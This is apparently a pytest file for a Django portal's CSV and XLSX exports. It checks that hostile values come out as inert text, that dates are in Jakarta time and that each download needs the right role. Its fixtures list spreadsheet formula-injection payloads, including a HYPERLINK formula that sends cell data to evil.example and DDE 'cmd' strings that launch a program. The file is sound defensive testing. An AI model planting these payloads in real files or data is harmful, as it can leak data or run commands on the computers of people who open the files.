"""Every CSV and XLSX download of the portal, fed hostile values and read back as a spreadsheet would read it.

A name, a unit or a scheme code that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return must come
back as text behind a single quote, never as a formula; dates must be real date cells in Jakarta time (WIB). Each
download is fetched through its real view by a person with the right role; anonymous visitors and other roles get
nothing.
"""

import csv
import datetime
import io
import re
import unicodedata
from datetime import date

import pytest
import time_machine
from django.core.cache import cache
from django.urls import reverse
from openpyxl import load_workbook

from applicants.models import Status
from certportal.accounts.models import User
from certportal.sla import reference
from certportal.sla import services as sla
from certportal.sla.registry import register_tracked, unregister_tracked
from tests.applicants.factories import ApplicationFactory, SchemeFactory
from tests.complaints.factories import SurveyResponseFactory, file_complaint
from tests.conftest import client_for
from tests.factories import UserFactory

from .sla_helpers import at

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"x")',
    "+cmd|' /C calc'!A0",
    "-1+2+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # spreadsheets skip leading blanks before a formula
    "\t \u3000@SUM(1+1)",
    "\uff1dHYPERLINK(\"http://evil.example/\",\"x\")",  # full-width ＝, read as = by spreadsheets
    "\uff0b1+1",
    "  \uff0d1+1",
    "\uff20SUM(1+1)",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def live(text) -> bool:
    """Could a spreadsheet read this text as a formula: a trigger first, or a sign (any width) after blanks."""
    return isinstance(text, str) and (text.startswith(TRIGGERS) or unicodedata.normalize(
        "NFKC", text.lstrip()[:1]) in ("=", "+", "-", "@"))
# 20:30 UTC on 20 November is 03:30 on 21 November in Jakarta: a UTC export would show the wrong day.
EVENING_UTC = datetime.datetime(2026, 11, 20, 20, 30, tzinfo=datetime.UTC)
IN_JAKARTA = datetime.datetime(2026, 11, 21, 3, 30)


@pytest.fixture(autouse=True)
def _fresh_cache():
    cache.clear()  # the queue caches its counts; factory rows do not go through the services that clear them
    yield
    cache.clear()


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="[\w.-]+\.csv"', response["Content-Disposition"])
    text = response.getvalue().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert re.fullmatch(r'attachment; filename="[\w.-]+\.xlsx"', response["Content-Disposition"])
    return load_workbook(io.BytesIO(response.getvalue()))


def assert_csv_is_inert(rows: list[list[str]]) -> None:
    """No field of the file could start a formula (a tab before digits only marks an identifier as text)."""
    assert [field for row in rows for field in row
            if live(field) and not (field[:1] == "\t" and field[1:].isdigit())] == []


def assert_workbook_is_inert(wb) -> None:
    """No cell of any sheet is a formula, and no text cell could become one when edited."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not live(cell.value), cell.value


def neutralised(values) -> set[str]:
    return {"'" + value for value in values}


# --- the verifier's queue and the per-unit recap -----------------------------------------------------------


@pytest.fixture
def hostile_applications():
    scheme = SchemeFactory()
    return [ApplicationFactory(scheme=scheme, status=Status.SUBMITTED, applicant_name=text, org_unit=text,
                               submitted_at=EVENING_UTC) for text in HOSTILE]


def test_queue_csv_keeps_hostile_names_and_units_as_text_and_times_in_wib(hostile_applications, victor):
    header, *rows = csv_rows(client_for(victor).get(reverse("applicants:queue-export", args=["csv"])))
    assert_csv_is_inert([header, *rows])
    assert header[:4] == ["No.", "Nama", "NIP", "Perangkat daerah"]  # victor reads the portal in Indonesian
    assert {r[1] for r in rows} == {r[3] for r in rows} == neutralised(HOSTILE)
    assert {r[6] for r in rows} == {"2026-11-21 03:30"}


def test_queue_xlsx_has_no_formula_and_real_date_cells_in_wib(hostile_applications, victor):
    wb = workbook(client_for(victor).get(reverse("applicants:queue-export", args=["xlsx"])))
    assert_workbook_is_inert(wb)
    ws = wb.active
    assert ws.title == "Permohonan" and all(c.font.b for c in ws[1])
    assert {c.value for c in ws["B"][1:]} == {c.value for c in ws["D"][1:]} == neutralised(HOSTILE)
    submitted = ws["G"][1:]
    assert all(c.is_date and c.value == IN_JAKARTA for c in submitted)
    assert ws.column_dimensions["G"].width >= len("dd/mm/yyyy hh:mm")


def test_queue_export_headers_follow_the_readers_language(hostile_applications, victor):
    victor.preferred_language = "en"
    victor.save(update_fields=["preferred_language"])
    header = csv_rows(client_for(victor).get(reverse("applicants:queue-export", args=["csv"])))[0]
    assert header == ["No.", "Name", "NIP", "Agency", "Scheme", "Status", "Submitted",
                      "Complete and correct", "Target", "Limit"]


def test_recap_csv_and_xlsx_keep_hostile_units_as_text(hostile_applications, victor):
    client = client_for(victor)
    header, *rows = csv_rows(client.get(reverse("applicants:unit-recap") + "?format=csv"))
    assert_csv_is_inert([header, *rows])
    assert header[:3] == ["Perangkat daerah", "Jumlah", "Dalam verifikasi"]
    assert {r[0] for r in rows} == neutralised(HOSTILE) and {r[1] for r in rows} == {"1"}
    wb = workbook(client.get(reverse("applicants:unit-recap") + "?format=xlsx"))
    assert_workbook_is_inert(wb)
    ws = wb.active
    assert [c.value for c in ws[1]][:2] == ["Perangkat daerah", "Jumlah"] and all(c.font.b for c in ws[1])
    assert {c.value for c in ws["A"][1:]} == neutralised(HOSTILE)
    assert {c.value for c in ws["B"][1:]} == {1}  # counts stay numbers


# --- the SLA dashboard ---------------------------------------------------------------------------------------


@pytest.fixture
def hostile_sla_items(db):
    """Open follow-ups past their limit, labelled with hostile names and owned by staff with hostile names."""
    reference.load()
    owners: dict[int, list] = {}
    register_tracked(User, responsible=lambda obj: owners.get(obj.pk, []), label=lambda obj: obj.full_name)
    for text in HOSTILE:
        item = UserFactory(full_name=text)
        owners[item.pk] = [UserFactory(full_name=text)]
        sla.start_clock(item, "complaint-followup", at=at(date(2026, 11, 2)))
    yield
    unregister_tracked(User)


def test_sla_csv_keeps_hostile_labels_and_staff_names_as_text(hostile_sla_items, sofia):
    with time_machine.travel(at(date(2026, 11, 20)), tick=False):
        rows = csv_rows(client_for(sofia).get(reverse("sla:dashboard") + "?months=3&format=csv"))
    assert_csv_is_inert(rows)
    at_risk = [r for r in rows if r[0] == "Berisiko saat ini"]
    assert {r[3] for r in at_risk} == neutralised(HOSTILE)
    assert all(re.fullmatch(r"2026-\d\d-\d\d", r[1]) and re.fullmatch(r"2026-\d\d-\d\d", r[5]) for r in at_risk)
    assert {r[2] for r in rows if r[0] == "Pelanggaran per petugas"} == neutralised(HOSTILE)


# --- complaint reports and the satisfaction index ------------------------------------------------------------


@pytest.fixture
def hostile_complaint(db):
    with time_machine.travel(EVENING_UTC, tick=False):
        return file_complaint(name=HOSTILE[0], object_text=HOSTILE[3], reference=HOSTILE[1],
                              message="\n".join(HOSTILE))


def test_complaint_report_csv_and_xlsx_are_inert_and_dated_in_wib(hostile_complaint, karin):
    client = client_for(karin)
    period = "?date_from=2026-11-21&date_to=2026-11-21"  # the Jakarta day of the complaint, not the UTC one
    header, *rows = csv_rows(client.get(reverse("complaints:reports-csv") + period))
    assert_csv_is_inert([header, *rows])
    assert header[:2] == ["Nomor pelacakan", "Diterima"]
    assert [r[0] for r in rows] == [hostile_complaint.tracking_number]
    assert rows[0][1] == "2026-11-21 03:30"
    wb = workbook(client.get(reverse("complaints:reports-xlsx") + period))
    assert_workbook_is_inert(wb)
    ws = wb.worksheets[0]
    assert ws.max_row == 2 and all(c.font.b for c in ws[1])
    assert ws["B2"].is_date and ws["B2"].value == IN_JAKARTA
    limit = ws["K2"]
    assert limit.value is None or limit.is_date
    assert len(wb.worksheets) == 5 and all(all(c.font.b for c in sheet[1]) for sheet in wb.worksheets)


def test_ikm_csv_keeps_hostile_scheme_codes_as_text(karin):
    for text in HOSTILE:
        SurveyResponseFactory(scheme_code=text, answered_on=date(2026, 2, 10))
    rows = csv_rows(client_for(karin).get(reverse("complaints:skm-csv") + "?year=2026&quarter=1"))
    assert_csv_is_inert(rows)
    assert rows[0][2:] == ["2026-01-01", "2026-03-31"]
    schemes = rows[rows.index(["Skema", "Responden", "Indeks", "Mutu pelayanan"]) + 1:]
    assert {r[0] for r in schemes} == neutralised(HOSTILE)
    assert {r[1] for r in schemes} == {"1"}


# --- who may download what -----------------------------------------------------------------------------------

EXPORTS = [
    # (url, a role that may download it, a staff role that may not)
    (lambda: reverse("applicants:queue-export", args=["csv"]), "victor", "karin"),
    (lambda: reverse("applicants:queue-export", args=["xlsx"]), "quinn", "karin"),
    (lambda: reverse("applicants:unit-recap") + "?format=csv", "sofia", "karin"),
    (lambda: reverse("applicants:unit-recap") + "?format=xlsx", "lina", "karin"),
    (lambda: reverse("sla:dashboard") + "?format=csv", "sofia", "victor"),
    (lambda: reverse("complaints:reports-csv"), "karin", "victor"),
    (lambda: reverse("complaints:reports-xlsx"), "sofia", "lina"),
    (lambda: reverse("complaints:skm-csv"), "karin", "victor"),
]


@pytest.mark.parametrize("url,right,wrong", EXPORTS)
def test_exports_need_the_right_role(request, client, alice, url, right, wrong):
    url = url()
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and reverse("accounts:login") in anonymous["Location"]
    assert client_for(alice).get(url).status_code == 403
    assert client_for(request.getfixturevalue(wrong)).get(url).status_code == 403
    response = client_for(request.getfixturevalue(right)).get(url)
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment;")
